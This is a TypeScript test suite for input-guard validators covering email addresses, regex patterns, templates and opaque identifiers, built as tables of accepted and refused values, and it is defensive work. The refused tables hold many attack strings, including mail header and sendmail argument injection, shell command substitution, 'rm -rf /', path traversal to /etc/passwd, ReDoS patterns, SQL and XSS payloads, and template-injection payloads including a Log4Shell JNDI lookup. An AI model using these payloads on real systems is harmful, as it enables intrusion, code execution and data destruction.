/** Mailboxes, patterns and templates: the roles that have a grammar of their own, as tables both ways. */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { type Check, NOWHERE, type Site } from '#sluice/guards/roles/check.js'
import { checkEmail } from '#sluice/guards/roles/email.js'
import { checkOpaque } from '#sluice/guards/roles/identifier.js'
import { checkRegex } from '#sluice/guards/roles/regex.js'
import { checkTemplate } from '#sluice/guards/roles/template.js'
import { LIMITS } from '#sluice/limits.js'

const SITE: Site = { role: 'email', at: '/x', tool: 't', settings: {}, reach: NOWHERE }

function table(name: string, check: Check, passes: readonly string[], refused: readonly string[]): void {
  test(`${name}: what passes`, () => {
    for (const value of passes) assert.equal(check(value, SITE)?.rule, undefined, value)
  })
  test(`${name}: what is refused`, () => {
    for (const value of refused) assert.ok(check(value, SITE) !== undefined, value)
  })
}

table(
  'email',
  checkEmail,
  [
    'jane@example.com',
    'john.doe+tag@sub.example.co.uk',
    "o'brien@example.ie",
    'Jane Doe <jane@example.com>',
    '"doe.jane"@example.com',
    'a@example.com, b@example.org; c@example.net',
    'jane',
    '',
    'me',
    'müller@bücher.example',
    'user@[203.0.113.7]',
    'x_y-z@example.com',
    '*@example.com',
    '@example.com',
    'a=b@example.com',
    'root@localhost',
  ],
  [
    'a@example.com\nBcc: b@example.com',
    'a@example.com\r\nSubject: x',
    'a@example.com%0aBcc:b@example.com',
    'a%0aBcc%3ab@example.com',
    'a%250d%250aBcc%253ab@example.com',
    '-oQ/tmp/x@example.com',
    '-X/tmp/x.php@example.com',
    'a@b@',
    'a@',
    '"a\\" -oQ/tmp -X/x.php x"@example.com',
    '$(id)@example.com',
    'a@example.com; cat /etc/hosts',
    'a@example.com|id',
    '`id`@example.com',
    '<script>alert(1)</script>@example.com',
    'a@-example.com',
    'a@example.com<img src=x>',
    "' or 1=1--@example.com",
    'a\u200b@example.com',
    '{{7*7}}@example.com',
  ],
)

table(
  'regex',
  checkRegex,
  [
    '',
    'foo',
    '^[a-z]+$',
    String.raw`\d{4}-\d{2}-\d{2}`,
    'function\\s+\\w+\\s*\\(',
    '(?:foo|bar)+',
    String.raw`(\w+,)*`,
    '(a+,)*',
    '(?i)todo|fixme',
    '[^/]+/[^/]+',
    '(https?://)?[\\w.]+',
    String.raw`(?:\.[a-z]+)*`,
    '.*foo.*bar.*',
    String.raw`("[^"]*",?)*`,
    '(?<year>\\d{4})',
    '(a|b)*',
    '[(+*]+',
    String.raw`\(+\)*`,
    '(?=x)y',
    '(',
    ')',
    '[',
    'a{',
    'a{2,3}',
    '(ab){2}',
    '(a{2})+',
    '(?:[0-9a-f]{2}:)+',
    String.raw`(\s\w+)*`,
    '$id',
    "it's; ls -la | x",
    '--force',
    '-1',
    '->',
    '[-]-port=80',
    'git push --force-with-lease=x',
    String.raw`(?:\r\n|\n)+`,
  ],
  [
    '--pre=sh',
    '--null --pre=x',
    '-f/etc/hosts',
    '(a+)+',
    '(a*)*$',
    '([a-zA-Z]+)*',

    '(a|a)*',
    '(.*)*',
    '((a+)b?)*',
    '(a+b?)+',
    String.raw`(\w|\d)+$`,
    '(.|\\s)*x',
    '(?:a+)+',
    '(a+){2,}',
    '(a+){1,1000}',
    '((ab)*)*',
    '(x+x+)+y',
    '(?<n>a+)+',
    '(.*,)*',
    String.raw`(\d+)*`,
    String.raw`^(\s*\w+\s*)*$`,
    '(a+)+?',
    '(([a-z])+.)+[A-Z]([a-z])+$',
    '(a|b|a)*',
    'x'.repeat(LIMITS.patternCharacters + 1),
    'a\u0000b',
    'a\u202eb',
  ],
)

table(
  'template',
  checkTemplate,
  [
    'Hello {{ user.name }}',
    'Dear ${name},',
    '<%= title %>',
    '{% if user %}x{% endif %}',
    '{0} of {1}',
    '%s of %d',
    '{{ price | currency }}',
    '{{#each items}}{{this}}{{/each}}',
    '$name',
    '{{> partial}}',
    "{{ rows | map(attribute='name') | sort(reverse=true) | list }}",
    '{% for x in rows|sort(attribute="n") %}{{ x }}{% endfor %}',
    '{{ a }} '.repeat(300),
  ],
  [
    "{{ ''.__class__.__mro__ }}",
    '${T(java.lang.Runtime).getRuntime().exec("id")}',
    '<%= system("id") %>',
    '{{ config.__class__ }}',
    "{{ x.getClass().forName('y') }}",
    '#{ `id` }<%= IO.popen("id") %>',
    '${jndi:ldap://203.0.113.7/a}',
    "{{ constructor.constructor('x')() }}",
    '{{ "id" | filter("system") }}',
    "{{['id']|map('passthru')|join}}",
    '{{ x|attr("y") }}',
    '${self.module.cache.util.os.system("id")}',
    `${'x'.repeat(5000)}{{ cycler.__init__ }}`,
    '{{ request.application.__globals__ }}',
  ],
)

table(
  'opaque',
  checkOpaque,
  ['', 'aGVsbG8=', 'eyJhbGciOiJIUzI1NiJ9.e30.x-_y', 'deadbeef', 'a'.repeat(100_000), 'sha256:abc', 'cursor:123', 'AbC/+=='],
  ['x; rm -rf /', '--exec=id', '../../etc/passwd', '$(id)', "' or 1=1--", 'a\u200bb'],
)

test('a pattern of many alternatives is asked about each of them once', () => {
  const classes = Array.from({ length: 700 }, (_, at) => `[${String.fromCharCode(0x4e00 + at)}]`)
  const plain = globalThis.RegExp
  let made = 0
  globalThis.RegExp = new Proxy(plain, {
    construct: (target, [source, flags]: [string, string?]) => {
      made += 1
      return new target(source, flags)
    },
  })
  try {
    assert.equal(checkRegex(`(?:${classes.join('|')})*`, SITE), undefined)
  } finally {
    globalThis.RegExp = plain
  }
  assert.ok(made <= classes.length, `${made} made`)
})
